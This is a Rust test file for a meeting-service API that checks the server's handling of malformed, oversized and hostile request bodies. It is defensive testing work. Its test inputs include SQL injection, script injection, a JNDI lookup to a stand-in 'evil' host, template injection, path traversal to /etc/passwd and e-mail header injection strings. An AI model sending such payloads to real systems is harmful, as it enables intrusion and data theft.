//! Input that is malformed, of the wrong type, out of range or hostile.

use reqwest::Method;
use serde_json::{Value, json};
use tokio::{
    io::{AsyncBufReadExt, AsyncWriteExt, BufReader},
    net::TcpStream,
};

use super::app::{Client, PASSWORD, TestApp, User};

/// Every operation that takes a body, with one that it accepts.
fn operations(meeting: &str) -> Vec<(Method, String, Value)> {
    vec![
        (Method::POST, "/register".into(), json!({"username": "x", "email": "x", "password": "x"})),
        (Method::POST, "/login".into(), json!({"username": "x", "password": "x"})),
        (Method::POST, "/refresh-token".into(), json!({"refresh_token": "x"})),
        (Method::POST, "/logout".into(), json!({"refresh_token": "x"})),
        (Method::PUT, "/profile".into(), json!({"nickname": "x"})),
        (Method::POST, "/meetings".into(), json!({"title": "x"})),
        (Method::POST, format!("/meetings/{meeting}/join"), json!({"display_name": "x"})),
    ]
}

async fn send_raw(user: &User, method: &Method, path: &str, content_type: Option<&str>, body: Vec<u8>) -> String {
    let mut request = user.request(method.clone(), path).body(body);
    if let Some(content_type) = content_type {
        request = request.header("content-type", content_type);
    }
    user.send(request).await.error().to_owned()
}

#[tokio::test]
async fn malformed_json() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let meeting = user.create_meeting("Planning").await;
    let deep = format!("{}1{}", r#"{"a":"#.repeat(5_000), "}".repeat(5_000));
    let deep_list = "[".repeat(30_000);
    for (method, path, _) in operations(&meeting) {
        for body in
            ["{", "{'title':'x'}", "{\"title\":}", "nul", "{} {}", "\u{feff}{}", "{\"a\":\"\u{1}\"}", &deep, &deep_list]
        {
            let error = send_raw(&user, &method, &path, Some("application/json"), body.into()).await;
            assert_eq!(error, "request.malformed", "{method} {path}: {}", &body[..body.len().min(40)]);
        }
        let error = send_raw(&user, &method, &path, Some("application/json"), b"{\"a\":\"\xff\"}".to_vec()).await;
        assert_eq!(error, "request.malformed", "{method} {path}: not UTF-8");
    }
    let answer =
        user.send(user.request(Method::POST, "/meetings").header("content-type", "application/json").body("{")).await;
    insta::assert_json_snapshot!(answer.snapshot(), @r#"
    {
      "body": {
        "code": 400,
        "error": {
          "details": [],
          "type": "request.malformed"
        },
        "message": "the request could not be read",
        "timestamp": "[timestamp]"
      },
      "status": 400
    }
    "#);
}

#[tokio::test]
async fn bodies_that_are_no_objects() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let meeting = user.create_meeting("Planning").await;
    for (method, path, _) in operations(&meeting) {
        for body in ["null", "[]", "\"x\"", "1", "true"] {
            let error = send_raw(&user, &method, &path, Some("application/json"), body.into()).await;
            assert_eq!(error, "request.invalid", "{method} {path}: {body}");
        }
    }
}

#[tokio::test]
async fn bodies_of_other_types() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let meeting = user.create_meeting("Planning").await;
    for (method, path, body) in operations(&meeting) {
        for content_type in
            [None, Some("text/plain"), Some("application/x-www-form-urlencoded"), Some("multipart/form-data")]
        {
            let error = send_raw(&user, &method, &path, content_type, body.to_string().into()).await;
            assert_eq!(error, "request.unsupported_media_type", "{method} {path}: {content_type:?}");
        }
    }
    let answer = user.send(user.request(Method::POST, "/meetings").body("title=x")).await;
    insta::assert_json_snapshot!(answer.snapshot(), @r#"
    {
      "body": {
        "code": 415,
        "error": {
          "details": [],
          "type": "request.unsupported_media_type"
        },
        "message": "the body is not of a media type that is taken here",
        "timestamp": "[timestamp]"
      },
      "status": 415
    }
    "#);
}

#[tokio::test]
async fn bodies_that_are_too_large() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let meeting = user.create_meeting("Planning").await;
    let large = json!({"title": "x".repeat(64 * 1024)}).to_string();
    for (method, path, _) in operations(&meeting) {
        let error = send_raw(&user, &method, &path, Some("application/json"), large.clone().into()).await;
        assert_eq!(error, "request.too_large", "{method} {path}");
    }
    let just_fits = format!("{{\"title\":\"x\",\"more\":\"{}\"}}", "y".repeat(64 * 1024 - 23));
    assert_eq!(just_fits.len(), 64 * 1024);
    let request = user.request(Method::POST, "/meetings").header("content-type", "application/json").body(just_fits);
    assert_eq!(user.send(request).await.status, 201);
}

#[tokio::test]
async fn a_body_that_does_not_tell_its_size_is_bounded_too() {
    let (app, _anon, user) = TestApp::with_user().await;
    let head = format!(
        "POST /api/v1/meetings HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\n\
         Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        app.address, user.access_token
    );
    let mut socket = TcpStream::connect(app.address).await.unwrap();
    socket.write_all(head.as_bytes()).await.unwrap();
    let chunk = format!("4000\r\n{}\r\n", " ".repeat(0x4000));
    for _ in 0..5 {
        socket.write_all(chunk.as_bytes()).await.unwrap();
    }
    let mut status_line = String::new();
    BufReader::new(&mut socket).read_line(&mut status_line).await.unwrap();
    assert_eq!(status_line, "HTTP/1.1 413 Payload Too Large\r\n");
}

/// Sends each body and expects 422 with exactly these fields, in order.
async fn refuses(user: &User, method: Method, path: &str, cases: &[(Value, &[(&str, &str)])]) {
    for (body, expected) in cases {
        let answer = user.send(user.request(method.clone(), path).json(body)).await;
        assert_eq!(answer.error(), "request.invalid", "{method} {path} {body}: {}", answer.body);
        let details = answer.body["error"]["details"].as_array().unwrap();
        let told: Vec<_> = details
            .iter()
            .map(|detail| (detail["field"].as_str().unwrap(), detail["code"].as_str().unwrap()))
            .collect();
        assert_eq!(told, *expected, "{method} {path} {body}");
        assert!(details.iter().all(|detail| !detail["message"].as_str().unwrap().is_empty()));
    }
}

#[tokio::test]
async fn accounts_with_bad_fields() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let with = |field: &str, value: Value| {
        let mut body = json!({"username": "carol", "email": "carol@example.org", "password": PASSWORD});
        body[field] = value;
        body
    };
    let answer = user.post("/register", json!({"username": "a", "email": "b", "password": "c", "nickname": ""})).await;
    insta::assert_json_snapshot!(answer.snapshot(), @r#"
    {
      "body": {
        "code": 422,
        "error": {
          "details": [
            {
              "code": "too_short",
              "field": "username",
              "message": "must have at least 3 characters"
            },
            {
              "code": "malformed",
              "field": "email",
              "message": "must be an e-mail address such as name@example.com"
            },
            {
              "code": "too_short",
              "field": "password",
              "message": "must have at least 8 characters"
            },
            {
              "code": "empty",
              "field": "nickname",
              "message": "must not be empty"
            }
          ],
          "type": "request.invalid"
        },
        "message": "a value in the request is not acceptable",
        "timestamp": "[timestamp]"
      },
      "status": 422
    }
    "#);
    refuses(
        &user,
        Method::POST,
        "/register",
        &[
            (json!({}), &[("username", "required"), ("email", "required"), ("password", "required")]),
            (with("username", json!(1)), &[("username", "wrong_type")]),
            (with("username", json!(null)), &[("username", "required")]),
            (with("email", json!(["a@b.c"])), &[("email", "wrong_type")]),
            (with("password", json!({"$ne": ""})), &[("password", "wrong_type")]),
            (with("nickname", json!(true)), &[("nickname", "wrong_type")]),
        ],
    )
    .await;
    let long = "x".repeat(300);
    for (field, value) in [
        ("username", ""),
        ("username", "ab"),
        ("username", &long),
        ("username", "two words"),
        ("username", "caf\u{e9}"),
        ("username", "nul\u{0}"),
        ("username", "'; DROP TABLE users; --"),
        ("email", ""),
        ("email", "nobody"),
        ("email", "a@b@c"),
        ("email", "a b@c.org"),
        ("email", "a@c.org\r\nBcc: d@e.org"),
        ("email", &format!("{long}@example.org")),
        ("password", "short"),
        ("password", "password"),
        ("password", &long),
        ("password", "carol@example.org"),
        ("nickname", "   "),
        ("nickname", &long),
        ("nickname", "a\u{7}b"),
        ("nickname", "a\u{0}b"),
    ] {
        let answer = user.post("/register", with(field, json!(value))).await;
        assert_eq!(answer.error(), "request.invalid", "{field} {value:?}: {}", answer.body);
        assert_eq!(answer.body["error"]["details"][0]["field"], field, "{value:?}");
    }
}

#[tokio::test]
async fn logins_with_bad_fields() {
    let (_app, _anon, user) = TestApp::with_user().await;
    refuses(
        &user,
        Method::POST,
        "/login",
        &[
            (json!({}), &[("username", "required"), ("password", "required")]),
            (json!({"username": 1, "password": []}), &[("username", "wrong_type"), ("password", "wrong_type")]),
            (
                json!({"username": "a", "password": "b", "token_delivery": "post"}),
                &[("token_delivery", "unknown_value")],
            ),
            (json!({"username": "a", "password": "b", "token_delivery": 1}), &[("token_delivery", "unknown_value")]),
        ],
    )
    .await;
    refuses(
        &user,
        Method::POST,
        "/refresh-token",
        &[(json!({"refresh_token": 1}), &[("refresh_token", "wrong_type")])],
    )
    .await;
    let both = json!({"nickname": 1, "language": "xx"});
    refuses(&user, Method::PUT, "/profile", &[(both, &[("nickname", "wrong_type")])]).await;
    refuses(&user, Method::PUT, "/profile", &[(json!({"language": "xx"}), &[("language", "unknown")])]).await;
}

#[tokio::test]
async fn meetings_with_bad_fields() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let with = |field: &str, value: Value| {
        let mut body = json!({"title": "Planning"});
        body[field] = value;
        body
    };
    refuses(
        &user,
        Method::POST,
        "/meetings",
        &[
            (json!({}), &[("title", "required")]),
            (with("title", json!("  ")), &[("title", "required")]),
            (with("title", json!(5)), &[("title", "wrong_type")]),
            (with("title", json!("x".repeat(201))), &[("title", "too_long")]),
            (with("title", json!("a\u{0}b")), &[("title", "invalid_characters")]),
            (with("title", json!("a\nb")), &[("title", "invalid_characters")]),
            (with("description", json!("x".repeat(5_001))), &[("description", "too_long")]),
            (with("description", json!("a\u{0}b")), &[("description", "invalid_characters")]),
            (with("description", json!(1)), &[("description", "wrong_type")]),
            (with("start_time", json!("tomorrow")), &[("start_time", "wrong_type")]),
            (with("start_time", json!(1_790_000_000)), &[("start_time", "wrong_type")]),
            (with("start_time", json!("2030-02-30T00:00:00Z")), &[("start_time", "wrong_type")]),
            (with("start_time", json!("2030-01-31")), &[("start_time", "wrong_type")]),
            (with("max_participants", json!("5")), &[("max_participants", "wrong_type")]),
            (with("max_participants", json!(2.5)), &[("max_participants", "wrong_type")]),
            (with("max_participants", json!(1)), &[("max_participants", "out_of_range")]),
            (with("max_participants", json!(1_001)), &[("max_participants", "out_of_range")]),
            (with("max_participants", json!(i64::MIN)), &[("max_participants", "out_of_range")]),
            (with("max_participants", json!(u64::MAX)), &[("max_participants", "wrong_type")]),
            (
                json!({"title": 1, "max_participants": "x"}),
                &[("title", "wrong_type"), ("max_participants", "wrong_type")],
            ),
        ],
    )
    .await;
    let backwards = json!({"title": "x", "start_time": "2030-01-01T12:00:00Z", "end_time": "2030-01-01T11:00:00Z"});
    insta::assert_json_snapshot!(user.post("/meetings", backwards).await.snapshot(), @r#"
    {
      "body": {
        "code": 422,
        "error": {
          "details": [
            {
              "code": "not_after_start",
              "field": "end_time",
              "message": "must be after the start"
            }
          ],
          "type": "request.invalid"
        },
        "message": "a value in the request is not acceptable",
        "timestamp": "[timestamp]"
      },
      "status": 422
    }
    "#);
}

#[tokio::test]
async fn display_names_that_cannot_be() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let meeting = user.create_meeting("Planning").await;
    refuses(
        &user,
        Method::POST,
        &format!("/meetings/{meeting}/join"),
        &[
            (json!({"display_name": 1}), &[("display_name", "wrong_type")]),
            (json!({"display_name": "x".repeat(65)}), &[("display_name", "too_long")]),
            (json!({"display_name": "a\u{0}b"}), &[("display_name", "invalid_characters")]),
        ],
    )
    .await;
}

#[tokio::test]
async fn hostile_text_is_only_text() {
    let (_app, _anon, user) = TestApp::with_user().await;
    for text in [
        "'; DROP TABLE meetings; --",
        "\" OR \"\"=\"",
        "%_\\",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil}",
        "{{7*7}}",
        "../../etc/passwd",
        "안녕하세요 🎉 مرحبا",
        "\u{202e}txt.exe",
    ] {
        let created = user.post("/meetings", json!({"title": text, "description": text})).await;
        assert_eq!(created.status, 201, "{text}: {}", created.body);
        let read = user.get(&format!("/meetings/{}", created.text("id"))).await;
        assert_eq!((read.text("title"), read.text("description")), (text.to_owned(), text.to_owned()));
    }
}

#[tokio::test]
async fn fields_that_nobody_knows_are_ignored() {
    let (_app, _anon, user) = TestApp::with_user().await;
    let answer = user
        .post(
            "/meetings",
            json!({"title": "x", "id": "y", "status": "ended", "creator_id": 1, "__proto__": {"a": [1]}}),
        )
        .await;
    assert_eq!(answer.status, 201);
    assert_eq!(answer.text("status"), "scheduled");
    assert_eq!(answer.data()["creator_id"], user.id.as_str());
}
